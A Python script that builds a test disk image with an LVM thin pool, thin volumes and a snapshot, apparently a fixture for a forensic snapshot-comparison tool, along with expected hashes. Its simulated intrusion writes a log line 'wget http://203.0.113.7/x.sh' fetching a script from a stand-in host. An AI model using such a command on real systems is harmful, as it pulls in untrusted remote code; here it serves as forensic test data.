#!/usr/bin/env python3
"""Build images/lvm-thin.img.gz: a disk whose LVM volume group holds a thin
pool with three thin volumes: root (the OS, hostname thin01), var (mounted
at /var) and var_snap, a thin snapshot of var taken before the machine's
last writes (an older copy of its logs).

Run as root (a loop device for LVM's own tools):
    python3 images/build-lvm-thin.py

The kernel here has no device-mapper, so nothing is activated: LVM's own
tools write the volume group's metadata (`vgcfgrestore` of a description
with the thin-pool and thin segments), thin-provisioning-tools'
`thin_restore` writes the pool's metadata device from an XML list of chunk
mappings, and the filesystems, made by `mke2fs -d` and changed with
`debugfs -w`, are cut into 64 KiB chunks placed in the pool's data volume
where those mappings say, at the extents LVM's segment map (`lvs
--segments`) gives the pool's data and metadata volumes. The snapshot
shares every chunk that did not change with var, as a thin snapshot does;
chunks of zeros are left unmapped (never written). Checked: `thin_check`
and `thin_dump` of the metadata as written into the disk, `lvs` of the
volume group. images/expected/lvm-thin.tsv gives, per thin volume, its size
and the sha256 of the standalone filesystem image it must read as.
"""
import hashlib
import os
import re
import shutil
import subprocess
import sys
import tempfile

MiB = 1 << 20
CHUNK = 64 << 10
EXTENT = MiB
here = os.path.dirname(os.path.abspath(__file__))
ENV = dict(os.environ, LVM_SUPPRESS_FD_WARNINGS="1", LC_ALL="C")
PV_UUID = "SnApSf-th1n-0000-0000-0000-0000-00000a"
VG = "vg0"
# thin volumes: name, device id, size in MiB
THINS = [("root", 1, 8), ("var", 2, 16), ("var_snap", 3, 16)]
TMETA, TDATA = 4, 24  # MiB


def run(cmd, **kw):
    return subprocess.run(cmd, check=True, env=ENV, stdout=subprocess.PIPE, **kw).stdout.decode()


def tree(base, files):
    for path, data in files.items():
        p = os.path.join(base, path.lstrip("/"))
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(data.encode() if isinstance(data, str) else data)


def syslog(n, first=0):
    return "".join("May  1 00:%02d:%02d thin01 app[%d]: request %d served\n" % (i // 60 % 60, i % 60, 100 + i % 7, i)
                   for i in range(first, first + n))


def mkfs(work, name, files, mib, uuid):
    src = os.path.join(work, name + ".tree")
    tree(src, files)
    img = os.path.join(work, name + ".img")
    with open(img, "wb") as f:
        f.truncate(mib * MiB)
    run(["mke2fs", "-q", "-F", "-t", "ext4", "-b", "1024", "-L", name, "-U", uuid, "-E", "root_owner=0:0",
         "-d", src, img])
    return img


def build():
    if os.geteuid() != 0:
        sys.exit("build-lvm-thin.py needs root (a loop device for LVM's tools)")
    work = tempfile.mkdtemp(prefix="snapsift-thin-")
    try:
        root = mkfs(work, "root", {
            "/etc/hostname": "thin01\n",
            "/etc/os-release": 'NAME="Fedora Linux"\nID=fedora\nPRETTY_NAME="Fedora Linux 40"\n',
            "/etc/fstab": "/dev/mapper/vg0-root  /     ext4  defaults  0 1\n"
                          "/dev/vg0/var          /var  ext4  defaults  0 2\n",
            "/var/.keep": "",
        }, 8, "5eed0010-0000-4000-8000-000000000001")
        # var as the snapshot saw it, then var as the machine left it.
        snap = mkfs(work, "var", {
            "/log/syslog": syslog(3000),
            "/log/auth.log": "May  1 00:00:00 thin01 sshd[1]: Accepted publickey for admin\n",
            "/lib/app/state": "ok\n",
        }, 16, "5eed0010-0000-4000-8000-000000000002")
        var = os.path.join(work, "var-now.img")
        shutil.copy(snap, var)
        cmds = os.path.join(work, "debugfs.cmds")
        for name, data in [("auth.log", "May  1 00:00:00 thin01 sshd[1]: Accepted publickey for admin\n"
                                        "May  1 00:59:00 thin01 sshd[2]: Accepted password for root from 203.0.113.7\n"),
                           ("intruder.log", "wget http://203.0.113.7/x.sh\n")]:
            with open(os.path.join(work, name), "w") as f:
                f.write(data)
        with open(cmds, "w") as f:
            f.write("cd /log\nrm auth.log\nwrite %s auth.log\nwrite %s intruder.log\n"
                    % (os.path.join(work, "auth.log"), os.path.join(work, "intruder.log")))
        run(["debugfs", "-w", "-f", cmds, var], stderr=subprocess.DEVNULL)
        run(["e2fsck", "-fn", var], stderr=subprocess.DEVNULL)
        images = {"root": root, "var": var, "var_snap": snap}

        # Chunk mappings: the snapshot's chunks first (var before the last
        # writes), var sharing every chunk that did not change.
        data = []          # data chunks, in pool order
        maps = {}          # device id -> {virtual chunk: data chunk}
        def chunks(img):
            with open(img, "rb") as f:
                b = f.read()
            return [b[i:i + CHUNK] for i in range(0, len(b), CHUNK)]
        def place(c):
            data.append(c)
            return len(data) - 1
        zero = bytes(CHUNK)
        snap_chunks = chunks(snap)
        maps[3] = {i: place(c) for i, c in enumerate(snap_chunks) if c != zero}
        maps[2] = {}
        for i, c in enumerate(chunks(var)):
            if c == zero:
                continue
            maps[2][i] = maps[3][i] if i in maps[3] and snap_chunks[i] == c else place(c)
        maps[1] = {i: place(c) for i, c in enumerate(chunks(root)) if c != zero}
        nr_data = TDATA * MiB // CHUNK
        assert len(data) <= nr_data, len(data)
        xml = os.path.join(work, "thin.xml")
        with open(xml, "w") as f:
            f.write('<superblock uuid="" time="1" transaction="3" version="2" data_block_size="%d" nr_data_blocks="%d">\n'
                    % (CHUNK // 512, nr_data))
            for dev in (1, 2, 3):
                m = maps[dev]
                f.write('  <device dev_id="%d" mapped_blocks="%d" transaction="0" creation_time="%d" snap_time="1">\n'
                        % (dev, len(m), 1 if dev == 3 else 0))
                for v in sorted(m):
                    f.write('    <single_mapping origin_block="%d" data_block="%d" time="0"/>\n' % (v, m[v]))
                f.write("  </device>\n")
            f.write("</superblock>\n")
        tmeta = os.path.join(work, "tmeta.bin")
        with open(tmeta, "wb") as f:
            f.truncate(TMETA * MiB)
        run(["thin_restore", "-q", "-i", xml, "-o", tmeta])

        # The disk: GPT, one LVM partition; the VG's metadata by LVM itself.
        disk = os.path.join(work, "lvm-thin.img")
        with open(disk, "wb") as f:
            f.truncate(40 * MiB)
        run(["sgdisk", "-o", "-U", "5eed0010-0000-4000-8000-000000000000", "-n", "1:2048:0", "-t", "1:8E00",
             "-c", "1:lvm", "-u", "1:5eed0010-0000-4000-8000-0000000000b1", disk])
        start = 2048 * 512
        loop = run(["losetup", "-f", "--show", "-o", str(start), disk]).strip()
        try:
            run(["pvcreate", "-y", "-ff", "--norestorefile", "--uuid", PV_UUID, "--dataalignment", "1m", loop])
            run(["vgcreate", "-s", "1m", VG, loop])
            meta = os.path.join(work, "vg0.txt")
            run(["vgcfgbackup", "-f", meta, VG])
            text = open(meta).read()
            ids = {}
            def lv(name, status, segs):
                ids.setdefault(name, len(ids) + 1)
                s = '\t\t%s {\n\t\t\tid = "SnApSf-th1n-0000-0000-0000-0000-%06d"\n\t\t\tstatus = [%s]\n' \
                    '\t\t\tflags = []\n\t\t\tcreation_time = 1717243200\n\t\t\tcreation_host = "build"\n' \
                    '\t\t\tsegment_count = 1\n\t\t\tsegment1 {\n%s\t\t\t}\n\t\t}\n' \
                    % (name, ids[name], ", ".join('"%s"' % x for x in status), segs)
                return s
            rw, vis = ["READ", "WRITE"], ["READ", "WRITE", "VISIBLE"]
            lvs = "\tlogical_volumes {\n"
            lvs += lv("pool", vis, '\t\t\t\tstart_extent = 0\n\t\t\t\textent_count = %d\n\t\t\t\ttype = "thin-pool"\n'
                      '\t\t\t\tmetadata = "pool_tmeta"\n\t\t\t\tpool = "pool_tdata"\n\t\t\t\ttransaction_id = 3\n'
                      '\t\t\t\tchunk_size = %d\n\t\t\t\tdiscards = "passdown"\n\t\t\t\tzero_new_blocks = 1\n'
                      % (TDATA, CHUNK // 512))
            for name, dev, mib in THINS:
                extra = '\t\t\t\torigin = "var"\n' if name == "var_snap" else ""
                lvs += lv(name, vis, '\t\t\t\tstart_extent = 0\n\t\t\t\textent_count = %d\n\t\t\t\ttype = "thin"\n'
                          '\t\t\t\tthin_pool = "pool"\n\t\t\t\ttransaction_id = %d\n%s\t\t\t\tdevice_id = %d\n'
                          % (mib, dev - 1, extra, dev))
            for name, mib, pe in [("pool_tmeta", TMETA, 0), ("pool_tdata", TDATA, TMETA)]:
                lvs += lv(name, rw, '\t\t\t\tstart_extent = 0\n\t\t\t\textent_count = %d\n\t\t\t\ttype = "striped"\n'
                          '\t\t\t\tstripe_count = 1\n\t\t\t\tstripes = [\n\t\t\t\t\t"pv0", %d\n\t\t\t\t]\n' % (mib, pe))
            lvs += "\t}\n"
            idx = text.rindex("}")
            open(meta, "w").write(text[:idx] + lvs + text[idx:])
            run(["vgcfgrestore", "--force", "-f", meta, VG], stderr=subprocess.DEVNULL)
            seg_out = run(["lvs", "-a", "--segments", "--noheadings", "--separator", "|", "-o",
                           "lv_name,segtype,seg_start_pe,seg_pe_ranges,pool_lv,origin", VG])
            pe_start = int(run(["pvs", "--noheadings", "--nosuffix", "--units", "b", "-o", "pe_start", loop]).strip())
        finally:
            subprocess.run(["vgchange", "-an", VG], env=ENV, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            run(["losetup", "-d", loop])
        pe = {}
        for line in seg_out.splitlines():
            f = [x.strip() for x in line.split("|")]
            m = re.search(r":(\d+)-(\d+)$", f[3])
            if m:
                pe[f[0].strip("[]")] = int(m.group(1))
        print(seg_out, end="")
        base = start + pe_start
        with open(disk, "r+b") as d:
            d.seek(base + pe["pool_tmeta"] * EXTENT)
            d.write(open(tmeta, "rb").read())
            for k, c in enumerate(data):
                d.seek(base + pe["pool_tdata"] * EXTENT + k * CHUNK)
                d.write(c)
        # The metadata as written into the disk, read back by thin-provisioning-tools.
        back = os.path.join(work, "tmeta.back")
        with open(disk, "rb") as d, open(back, "wb") as f:
            d.seek(base + pe["pool_tmeta"] * EXTENT)
            f.write(d.read(TMETA * MiB))
        run(["thin_check", "-q", back])
        dumped = run(["thin_dump", back])
        assert dumped.count("<device ") == 3, dumped[:500]
        with open(os.path.join(here, "lvm-thin.img.gz"), "wb") as out:
            out.write(run_bytes(["gzip", "-9n", "-c", disk]))
        with open(os.path.join(here, "expected", "lvm-thin.tsv"), "w") as f:
            f.write("lv\tsize\tsha256\n")
            for name, _, mib in THINS:
                h = hashlib.sha256(open(images[name], "rb").read()).hexdigest()
                f.write("vg0/%s\t%d\t%s\n" % (name, mib * MiB, h))
        print("wrote images/lvm-thin.img.gz, images/expected/lvm-thin.tsv (%d data chunks)" % len(data))
    finally:
        shutil.rmtree(work)


def run_bytes(cmd):
    return subprocess.run(cmd, check=True, stdout=subprocess.PIPE).stdout


if __name__ == "__main__":
    build()
